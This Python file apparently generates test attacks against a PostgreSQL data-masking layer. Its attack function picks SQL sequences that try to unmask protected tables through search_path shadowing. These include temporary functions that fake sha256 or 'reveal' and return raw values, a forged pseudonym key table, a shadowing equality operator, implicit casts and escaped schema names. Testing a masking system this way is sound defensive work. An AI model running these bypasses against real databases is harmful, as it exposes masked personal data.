"""Shadowing: put a name of one's own before the one that a view or a function means."""


def attack(g):
    clause, columns = g.scope()
    table = g.table()
    path = g.one("app", "ringfence, masked", "pg_temp, app, masked", "'$user', app",
                 '"pg_temp", pg_catalog', "granted, app", "'app, masked'")
    look = g.one(f"SELECT * FROM {table} LIMIT 100",
                 f"SELECT {g.values(columns)} FROM {clause} LIMIT 100", f"TABLE {table}")
    return g.one(
        [f"SET search_path = {path}", look, "RESET search_path"],
        ["SELECT set_config('search_path', 'app', false)", look, "RESET search_path"],
        [f"SET LOCAL search_path = {path}; {look}"],
        ["BEGIN", f"SET LOCAL search_path TO {path}", look, "ROLLBACK"],
        ["CREATE TEMP TABLE pseudonym_key(only_row boolean, key bytea)",
         "INSERT INTO pg_temp.pseudonym_key VALUES (true, '')", look],
        ["CREATE FUNCTION pg_temp.sha256(bytea) RETURNS bytea LANGUAGE sql AS 'SELECT $1'",
         "SET search_path = pg_temp, app, pg_catalog", look],
        ["CREATE FUNCTION pg_temp.reveal(text, text, text, anyelement) RETURNS anyelement LANGUAGE sql AS 'SELECT $4'",
         look],
        ["CREATE OPERATOR pg_temp.= (LEFTARG = text, RIGHTARG = text, PROCEDURE = texteq)",
         f"SET search_path = pg_temp, {path}", look],
        ["CREATE CAST (text AS bytea) WITHOUT FUNCTION AS IMPLICIT", look],
        [f"WITH {table} AS (SELECT * FROM app.{table}) SELECT * FROM {table} LIMIT 100"],
        [f"SELECT * FROM ONLY app.{table} LIMIT 100"],
        [f'SELECT * FROM "app"."{table}" LIMIT 100'],
        [f'SELECT * FROM U&"\\0061pp".{table} LIMIT 100'],
        [f"SELECT * FROM app.{table} UNION ALL SELECT * FROM {table} LIMIT 100"])
